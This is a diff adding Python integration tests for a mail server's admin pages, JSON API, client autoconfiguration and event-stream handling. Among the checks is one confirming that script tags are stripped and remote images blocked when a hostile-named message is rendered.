+    assert dora is not None and dora.quota_bytes is None and dora.quota_messages == 5
+    assert (
+        admin.post(
+            "/admin/accounts/password",
+            {"address": "dora@example.com", "password": "a new long password"},
+        ).status_code
+        == 303
+    )
+    assert WebSession(live).login("dora@example.com", "a new long password").status_code == 303
+    assert (
+        admin.post(
+            "/admin/aliases/add",
+            {"address": "sales@example.com", "targets": "dora@example.com, bob@example.org"},
+        ).status_code
+        == 303
+    )
+    assert "sales@example.com" in admin.get("/admin/aliases").text
+    assert admin.post("/admin/domains/remove", {"name": "example.com"}).status_code == 400  # in use
+    admin.post("/admin/aliases/remove", {"address": "sales@example.com"})
+    admin.post("/admin/accounts/remove", {"address": "dora@example.com"})
+    assert admin.post("/admin/domains/remove", {"name": "example.com"}).status_code == 303
+    assert live.call(live.store.get_domain("example.com")) is None
+    assert admin.post("/admin/accounts/remove", {"address": "root@example.org"}).status_code == 400
+
+
+def test_admin_queue_retry_and_remove(live: LiveServer, admin: WebSession) -> None:
+    queued = live.call(
+        live.store.enqueue(
+            "alice@example.org", b"Subject: q\r\n\r\nbody\r\n", [NewQueueRecipient("x@remote.test")]
+        )
+    )
+    page = admin.get("/admin/queue")
+    assert "x@remote.test" in page.text
+    assert admin.post("/admin/queue/retry", {"id": queued.id}).status_code == 303
+    assert admin.api("GET", "/admin/queue").json()[0]["recipients"][0]["address"] == "x@remote.test"
+    assert admin.post("/admin/queue/remove", {"id": queued.id}).status_code == 303
+    assert live.call(live.store.list_queue()) == []
+    assert admin.post("/admin/queue/remove", {"id": "999"}).status_code == 404
+
+
+# -- JSON API ------------------------------------------------------------------------------------
+
+
+def test_openapi_document_lists_every_route(live: LiveServer) -> None:
+    from pillarbox.web.api import OPERATIONS
+
+    document = httpx.get(f"http://127.0.0.1:{live.port('http')}/api/v1/openapi.json").json()
+    assert document["openapi"].startswith("3.1")
+    served = {(method.upper(), path) for path, ops in document["paths"].items() for method in ops}
+    assert len(served) == len(OPERATIONS)
+    assert ("GET", "/api/v1/mailboxes/{mailbox}/messages/{uid}") in served
+    assert ("POST", "/api/v1/send") in served
+
+
+def test_api_mail_round_trip(live: LiveServer, alice: WebSession) -> None:
+    deliver(live, ALICE, HOSTILE)
+    [inbox] = [m for m in alice.api("GET", "/mailboxes").json() if m["name"] == "INBOX"]
+    assert inbox["unseen"] == 1
+    page = alice.api("GET", f"/mailboxes/{inbox['id']}/messages?q=Offer").json()
+    assert page["total"] == 1 and page["messages"][0]["subject"] == "hostile"
+    uid = page["messages"][0]["uid"]
+    message = alice.api("GET", f"/mailboxes/{inbox['id']}/messages/{uid}").json()
+    assert message["blocked_remote_images"] == 1 and "<script" not in message["html"]
+    assert alice.api("GET", f"/mailboxes/{inbox['id']}/messages/{uid}/raw").content == HOSTILE
+    assert alice.api(
+        "POST", f"/mailboxes/{inbox['id']}/actions", {"action": "flag", "uids": [uid]}
+    ).json() == {"ok": True}
+    assert "\\Flagged" in flags_of(live, inbox["id"], uid)
+    bad = alice.api("POST", f"/mailboxes/{inbox['id']}/actions", {"action": "flag", "uids": "1"})
+    assert bad.status_code == 400
+    sent = alice.api(
+        "POST",
+        "/send",
+        {
+            "to": BOB,
+            "subject": "api",
+            "body": "via JSON",
+            "attachments": [
+                {"filename": "a.txt", "content_type": "text/plain", "data": "aGVsbG8="}
+            ],
+        },
+    )
+    assert sent.status_code == 200 and sent.json()["sent"] is True
+    assert len(uids_in(live, BOB)) == 1
+    refused = alice.api("POST", "/send", {"to": "bogus", "body": "x"})
+    assert refused.status_code == 400 and "to" in refused.json()["fields"]
+    assert alice.api("POST", "/send", None, content=b"not json").status_code == 400
+    draft = alice.api("POST", "/drafts", {"to": BOB, "subject": "d", "body": "b"})
+    assert draft.status_code == 201
+    assert (
+        alice.api("PUT", "/settings/vacation", {"enabled": True, "body": "away"}).status_code == 200
+    )
+    assert alice.api("GET", "/settings").json()["vacation"]["enabled"] is True
+    token = alice.api("POST", "/tokens", {"kind": "app-password", "label": "phone"}).json()
+    assert token["kind"] == "app-password" and token["secret"]
+    assert alice.api("DELETE", f"/tokens/{token['id']}").json() == {"ok": True}
+    assert alice.api("DELETE", f"/tokens/{token['id']}").status_code == 404
+    assert {s["protocol"] for s in alice.api("GET", "/client-setup").json()} <= {
+        "IMAP",
+        "POP3",
+        "SMTP",
+    }
+
+
+def test_api_admin(live: LiveServer, admin: WebSession) -> None:
+    assert admin.api("POST", "/admin/domains", {"name": "api.test"}).status_code == 201
+    assert admin.api("POST", "/admin/domains", {"name": "api.test"}).status_code == 409
+    assert (
+        admin.api(
+            "POST",
+            "/admin/accounts",
+            {"address": "x@api.test", "password": TEST_PASSWORD, "quota_bytes": 1000},
+        ).status_code
+        == 201
+    )
+    assert (
+        admin.api(
+            "PUT", "/admin/accounts/x@api.test/quota", {"quota_bytes": None, "quota_messages": 3}
+        ).status_code
+        == 200
+    )
+    assert (
+        admin.api(
+            "POST", "/admin/aliases", {"address": "@api.test", "targets": ["x@api.test"]}
+        ).status_code
+        == 201
+    )
+    dns = admin.api("GET", "/admin/domains/api.test/dns").json()
+    assert any(r["type"] == "MX" for r in dns["records"])
+    board = admin.api("GET", "/admin/dashboard").json()
+    assert board["domains"] == 2 and board["accounts"] == 4
+    assert admin.api("DELETE", "/admin/aliases/@api.test").status_code == 200
+    assert admin.api("DELETE", "/admin/accounts/x@api.test").status_code == 200
+    assert admin.api("DELETE", "/admin/domains/api.test").status_code == 200
+    assert admin.api("DELETE", "/admin/domains/api.test").status_code == 404
+
+
+# -- autoconfig ----------------------------------------------------------------------------------
+
+
+@pytest.mark.listeners("http", "imaps", "submissions", "submission")
+def test_client_autoconfiguration(live: LiveServer, alice: WebSession) -> None:
+    thunderbird = alice.get(
+        "/.well-known/autoconfig/mail/config-v1.1.xml?emailaddress=alice@example.org"
+    )
+    assert thunderbird.status_code == 200
+    assert f"<port>{live.port('imaps')}</port>" in thunderbird.text
+    assert "<socketType>SSL</socketType>" in thunderbird.text and "mx.test" in thunderbird.text
+    assert alice.get("/mail/config-v1.1.xml?emailaddress=a@elsewhere.test").status_code == 404
+    request = (
+        b"<Autodiscover><Request><EMailAddress>bob@example.org</EMailAddress>"
+        b"</Request></Autodiscover>"
+    )
+    outlook = alice.client.post("/autodiscover/autodiscover.xml", content=request)
+    assert outlook.status_code == 200 and "<LoginName>bob@example.org</LoginName>" in outlook.text
+    profile = plistlib.loads(alice.get("/settings/mobileconfig").content)
+    [payload] = profile["PayloadContent"]
+    assert payload["EmailAddress"] == ALICE
+    assert payload["IncomingMailServerPortNumber"] == live.port("imaps")
+    assert payload["OutgoingMailServerPortNumber"] == live.port("submissions")
+    settings = alice.get("/settings").text
+    assert str(live.port("submission")) in settings and "STARTTLS" in settings
+
+
+def test_open_event_streams_do_not_hold_up_shutdown(tmp_path: Path) -> None:
+    live = LiveServer(loopback_config(tmp_path / "data", only=["http"]))
+    live.__enter__()
+    try:
+        live.add_domain("example.org")
+        live.add_account(ALICE, TEST_PASSWORD)
+        web = WebSession(live)
+        web.login(ALICE)
+        ended = threading.Event()
+
+        def follow() -> None:
+            with web.client.stream("GET", "/events", timeout=30) as stream:
+                for _line in stream.iter_lines():
+                    pass
+            ended.set()
+
+        reader = threading.Thread(target=follow, daemon=True)
+        reader.start()
+        time.sleep(0.3)
+    finally:
+        started = time.monotonic()
+        live.__exit__(None, None, None)
+    assert time.monotonic() - started < live.config.server.shutdown_grace
+    assert ended.wait(5)  # the stream was closed cleanly, not left hanging
+
+
+def test_mark_unread_from_the_message_view_returns_to_the_list(
+    live: LiveServer, alice: WebSession
+) -> None:
+    box, uid = deliver(live, ALICE, simple_message("read me later"))
+    alice.get(f"/mail/{box}/{uid}")
+    response = alice.post(
+        f"/mail/{box}/actions", {"uid": uid, "action": "unread", "back": f"/mail/{box}/{uid}"}
+    )
+    assert response.headers["location"] == f"/mail/{box}"
+    assert "\\Seen" not in flags_of(live, box, uid)
+    flagged = alice.post(
+        f"/mail/{box}/actions", {"uid": uid, "action": "flag", "back": f"/mail/{box}/{uid}"}
+    )
+    assert flagged.headers["location"] == f"/mail/{box}/{uid}"
